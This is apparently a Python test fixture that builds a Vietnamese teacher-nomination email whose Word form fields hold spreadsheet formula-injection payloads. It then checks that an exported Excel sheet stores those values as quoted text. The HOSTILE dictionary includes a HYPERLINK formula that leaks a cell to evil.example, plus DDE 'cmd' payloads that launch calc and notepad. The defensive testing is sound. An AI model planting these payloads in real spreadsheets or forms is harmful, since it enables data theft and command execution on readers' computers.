"""A unit's nomination form whose fields are spreadsheet formulas and DDE calls, as an outsider would type them."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import datetime
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path
from xml.etree import ElementTree

from docx import Document

NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
# What an outsider would type in a nomination form to make the council's Excel act.
HOSTILE = {
    "Đơn vị công tác": '=HYPERLINK("http://evil.example/?leak="&B7,"Bấm vào đây")',
    "Tóm tắt thành tích nổi bật": "=cmd|' /C calc'!A0",
    "Chức vụ": "+1+cmd|' /C notepad'!A0",
    "Sáng kiến, sản phẩm đổi mới sáng tạo": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Khen thưởng đã nhận": "-2+3",
}


NAME = "Đinh Thị Công Thức"


def form(rows: dict[str, str], quarter: str = "II", year: int = 2024) -> bytes:
    """The published two-column form, its title naming the quarter."""
    doc = Document()
    doc.add_paragraph(f"PHIẾU ĐĂNG KÝ GƯƠNG ĐIỂN HÌNH TIÊN TIẾN QUÝ {quarter} NĂM {year}")
    table = doc.add_table(rows=0, cols=2)
    for label, value in {"Họ và tên": NAME, "Đối tượng": "Nhà giáo", **rows,
                         "Minh chứng": "https://drive.google.com/drive/folders/minhchung"}.items():
        cells = table.add_row().cells
        cells[0].text, cells[1].text = label, value
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def hostile_mail(sender: str, sent: datetime, message_id: str, quarter: str = "II") -> bytes:
    """A unit's nomination mail whose form fields are the HOSTILE values, for the quarter `quarter` of
    the year it was sent in (Roman numeral)."""
    msg = EmailMessage()
    msg["From"] = f"Đơn vị <{sender}>"
    msg["To"] = "phongcntt.soninhbinh@moet.edu.vn"
    msg["Subject"] = f"Phiếu đăng ký gương điển hình tiên tiến quý {quarter}/{sent.year}"
    msg["Date"] = format_datetime(sent)
    msg["Message-ID"] = message_id
    msg.set_content("Kính gửi Sở GDĐT Ninh Bình,\nĐơn vị gửi phiếu đăng ký kèm theo.")
    msg.add_attachment(form(HOSTILE, quarter, sent.year), maintype="application", filename="phieu.docx",
                       subtype="vnd.openxmlformats-officedocument.wordprocessingml.document")
    return msg.as_bytes()


def sheets(path: Path) -> tuple[list[ElementTree.Element], ElementTree.Element]:
    """The worksheets' XML and the styles' XML of an .xlsx, as Excel reads them."""
    with zipfile.ZipFile(path) as book:
        names = sorted(n for n in book.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n))
        return ([ElementTree.fromstring(book.read(n)) for n in names],
                ElementTree.fromstring(book.read("xl/styles.xml")))


def text_cells(sheet: ElementTree.Element) -> dict[str, ElementTree.Element]:
    """Each inline-string cell by its text."""
    return {"".join(t.text or "" for t in c.iterfind(".//x:is/x:t", NS)): c
            for c in sheet.iterfind(".//x:c", NS) if c.get("t") == "inlineStr"}


def quote_prefixed(styles: ElementTree.Element, cell: ElementTree.Element) -> bool:
    """Whether the cell's style tells Excel to show and keep the value as typed text."""
    xfs = styles.find("x:cellXfs", NS)
    assert xfs is not None
    return list(xfs)[int(cell.get("s", "0"))].get("quotePrefix") == "1"
